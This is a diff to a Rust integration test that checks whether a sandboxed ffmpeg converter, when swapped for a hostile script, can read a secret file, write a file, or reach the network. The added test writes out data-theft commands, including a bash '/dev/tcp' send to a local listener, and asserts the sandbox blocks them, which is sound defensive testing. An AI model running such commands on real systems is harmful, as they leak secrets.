@@ -2,7 +2,10 @@
 #![cfg(target_os = "linux")]
 #![allow(clippy::unwrap_used)]
 
-use publisher::preview::{Apart, Converter};
+use publisher::{
+    piped::{Ended, Fenced},
+    preview::{Apart, Converter},
+};
 use std::{fs, io::Write, os::unix::fs::PermissionsExt, path::Path, process::Command, time::Duration};
 use units::Refusal;
 
@@ -34,6 +37,48 @@ fn a_picture_is_read_by_the_fenced_process() {
     assert!(preview.bytes.starts_with(b"The last ferry"));
     let no = reader().derive(&film(dir.path()), None).unwrap_err();
     assert_eq!(no.code(), "preview-needs-ffmpeg");
+}
+
+/// What a player's converter was talked into by a film: the same fence, and pipes instead of any file.
+///
+/// proves: row-89
+#[test]
+fn what_a_players_converter_was_talked_into_reaches_no_file_and_no_network() {
+    use std::io::Read;
+    let usr = tempfile::tempdir_in("/usr/local").unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let (secret, out) = (dir.path().join("secret"), dir.path().join("out"));
+    fs::write(&secret, "a key").unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let fenced = Fenced::by(env!("CARGO_BIN_EXE_keyfare").into(), ["convert-work".into()]);
+    let told = |does: &str| {
+        let path = usr.path().join("ffmpeg");
+        fs::write(&path, format!("#!/bin/sh\n{does}\n")).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+        let most = (30, Duration::from_secs(60));
+        let (piped, mut stdin, mut stdout) = fenced.begin(&path, &["-f", "mpeg", "-i", "pipe:0"], most).unwrap();
+        let _ = stdin.write_all(b"film");
+        drop(stdin);
+        let mut said = String::new();
+        stdout.read_to_string(&mut said).unwrap();
+        (said, piped.end().unwrap())
+    };
+    let (said, ended) = told("cat; echo \" $*\"");
+    assert_eq!(ended, Ended::Well);
+    assert!(
+        said.starts_with("film -nostdin ") && said.contains("-timelimit 30 -f mpeg -i pipe:0"),
+        "{said}"
+    );
+    let took = format!("cat '{}'", secret.display());
+    assert_eq!(told(&took), (String::new(), Ended::Badly));
+    let left = format!("echo stolen > '{}'", out.display());
+    assert_eq!(told(&left), (String::new(), Ended::Badly));
+    assert!(!out.exists());
+    let call = format!("/bin/bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}'");
+    assert_eq!(told(&call), (String::new(), Ended::Badly));
+    listener.set_nonblocking(true).unwrap();
+    assert!(listener.accept().is_err(), "nobody called");
 }
 
 // proves: row-89
